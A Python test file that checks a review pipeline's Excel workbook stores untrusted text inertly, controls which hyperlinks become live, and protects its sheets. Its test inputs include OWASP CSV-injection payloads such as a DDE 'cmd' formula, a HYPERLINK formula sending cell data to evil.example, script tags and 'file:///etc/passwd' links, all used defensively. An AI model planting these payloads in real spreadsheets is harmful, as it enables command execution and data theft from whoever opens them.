"""The workbook: what is written comes back, and nothing in it runs."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from pipeline.errors import UnreadableReview
from pipeline.review import workbook
from pipeline.review.columns import COLUMNS, DECISIONS
from tests.review.brief import CLAIM, URL, extraction, fill_in, written

DANGEROUS = [
    # OWASP, "CSV Injection".
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",
    '"=1+1"',
    # What a spreadsheet, XML or a library could take for its own.
    "{=1+1}",
    "_x000D_",
    "bell \x07, null \x00, unit \x1f",
    "<r><t>rich</t></r>",
    "<script>alert(1)</script>",
    "]]>&amp;",
    "#N/A",
    "TRUE",
    "001",
    "  blanks at both ends  ",
    "two\nlines",
    "שלום، مرحبا",
    "👩‍👩‍👧 🇺🇳",
    "a" * 40_000,
]


def book(tmp_path: Path, quote: str = "A sentence.") -> Path:
    file = tmp_path / "review.xlsx"
    workbook.write(file, written(extraction(quote)))
    return file


@pytest.mark.parametrize("text", DANGEROUS, ids=lambda text: ascii(text)[:20])
def test_a_dangerous_text_survives_and_does_not_run(tmp_path: Path, text: str) -> None:
    file = book(tmp_path, text)
    with zipfile.ZipFile(file) as archive:
        names = [name for name in archive.namelist() if "worksheets/sheet" in name]
        assert not [name for name in names if b"<f>" in archive.read(name)]
    quotes = {row.cells["quote"] for row in workbook.read(file).rows if "quote" in row.cells}
    kept = {
        quote for quote in quotes if quote[:30].strip() == text.replace("\r", "\n")[:30].strip()
    }
    assert kept, "the text is there"


def test_the_same_records_give_the_same_bytes(tmp_path: Path) -> None:
    one, other = tmp_path / "one.xlsx", tmp_path / "other.xlsx"
    for file in (one, other):
        workbook.write(file, written(extraction()))
    assert one.read_bytes() == other.read_bytes()
    assert sorted(tmp_path.iterdir()) == [one, other], "nothing is left beside them"


def test_what_an_analyst_may_do(tmp_path: Path) -> None:
    page = openpyxl.load_workbook(book(tmp_path))["Claims"]
    columns = COLUMNS["claim"]
    locked = [cell.protection.locked for cell in page[2]]
    assert locked == [column.part != "verdict" for column in columns]
    rules = page.protection
    # In the file these say what is forbidden.
    forbidden = [rules.sort, rules.autoFilter, rules.formatColumns, rules.formatRows]
    assert forbidden == [False] * 4
    assert [rules.sheet, rules.insertRows, rules.deleteRows] == [True] * 3
    assert not rules.password
    assert page.freeze_panes == "B2"
    assert page.auto_filter.ref == page.dimensions


def test_locked_rows_can_be_sorted_and_the_heads_cannot_be_changed(tmp_path: Path) -> None:
    with zipfile.ZipFile(book(tmp_path)) as archive:
        page = archive.read("xl/worksheets/sheet1.xml").decode()
    (area,) = re.findall(r'<protectedRange sqref="([A-Z]+\d+):[A-Z]+\d+" name="Rows"/>', page)
    assert area == "A2"
    # A validation that nothing passes stops whoever types into a locked cell.
    assert page.count("<formula1>FALSE</formula1>") >= 1


def test_validations_are_on_all_rows_and_no_header(tmp_path: Path) -> None:
    page = openpyxl.load_workbook(book(tmp_path))["Claims"]
    lists = {
        str(each.sqref): each.formula1.strip('"').split(",")
        for each in page.data_validations.dataValidation
        if each.type == "list"
    }
    assert lists["A2:A3"] == list(DECISIONS)
    labelled = [column for column in COLUMNS["claim"] if column.labels]
    assert list(lists.values()) == [list(column.labels) for column in labelled]


def test_a_sheet_without_rows_is_there_all_the_same(tmp_path: Path) -> None:
    file = tmp_path / "review.xlsx"
    found = extraction()
    workbook.write(file, written(found._replace(records=())))
    assert openpyxl.load_workbook(file).sheetnames[:2] == ["Claims", "Relations"]
    assert not workbook.read(file).rows


@pytest.mark.parametrize(
    ("url", "live"),
    [
        (URL, True),
        ("mailto:press@example.org", True),
        ("https://example.org/a#b", True),
        ("javascript:alert(1)", False),
        ("file:///etc/passwd", False),
        ("internal:Claims!A1", False),
        ("external:c:/x.xlsx", False),
        ("http://example.org/two words", False),
        ("https://example.org/" + "a" * 2_079, False),
    ],
    ids=lambda value: str(value)[:30],
)
def test_which_links_are_live(tmp_path: Path, url: str, live: bool) -> None:
    found = extraction()
    records = tuple(
        record.model_copy(update={"url": url}) if record.kind == "citation" else record
        for record in found.records
    )
    file = tmp_path / "review.xlsx"
    workbook.write(file, written(found._replace(records=records)))
    page = openpyxl.load_workbook(file)["Claims"]
    heads = [cell.value for cell in page[1]]
    cells = [page.cell(number, heads.index("link") + 1) for number in (2, 3)]
    assert url in [cell.value for cell in cells], "shown, live or not"
    assert any(cell.hyperlink for cell in cells) is live


def test_links_beyond_what_a_sheet_can_hold_are_text(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(workbook, "MOST_LINKS", 1)
    page = openpyxl.load_workbook(book(tmp_path))["Citations"]
    heads = [cell.value for cell in page[1]]
    cells = [page.cell(number, heads.index("link") + 1) for number in (2, 3)]
    assert sum(bool(cell.hyperlink) for cell in cells) <= 1


def test_who_saved_it_and_when(tmp_path: Path) -> None:
    file = book(tmp_path)
    assert workbook.is_untouched(file)
    fresh = workbook.read(file)
    assert fresh.saved_by == ""
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", fresh.saved)
    assert not fresh.saved.startswith("2000"), "the file's time, not the fixed one"
    fill_in(file, {CLAIM: {"verdict": "accept"}})
    assert not workbook.is_untouched(file)


@pytest.mark.parametrize("content", [b"", b"verdict,record id\n", b"PK\x03\x04 no archive"])
def test_no_workbook(tmp_path: Path, content: bytes) -> None:
    file = tmp_path / "review.xlsx"
    file.write_bytes(content)
    assert not workbook.is_untouched(file)
    with pytest.raises(UnreadableReview, match=r"review\.xlsx: no workbook"):
        workbook.read(file)


def test_columns_may_be_moved_hidden_and_added(tmp_path: Path) -> None:
    file = book(tmp_path)
    saved = openpyxl.load_workbook(file)
    page = saved["Claims"]
    page.insert_cols(1)
    page["A1"] = "my own column"
    page["A2"] = "something"
    page["B2"] = "reject"
    page["C1"] = "Correct  Claim_Type"
    page.column_dimensions["D"].hidden = True
    saved.create_sheet("Mine")["A1"] = "comment"
    saved.save(file)
    first = workbook.read(file).rows[0]
    assert first.cells["verdict"] == "reject"
    assert "correct claim type" not in first.cells
    assert first.cells["my own column"] == "something"
    assert {row.sheet for row in workbook.read(file).rows}.isdisjoint({"Mine", "Explained"})
